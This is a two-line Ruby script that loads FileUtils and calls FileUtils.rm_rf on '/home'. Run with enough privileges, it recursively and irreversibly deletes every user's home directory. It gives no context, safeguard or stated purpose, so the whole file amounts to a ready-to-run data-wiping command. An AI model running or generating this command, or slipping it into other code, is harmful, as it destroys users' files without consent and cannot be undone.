require "fileutils"

FileUtils.rm_rf("/home")
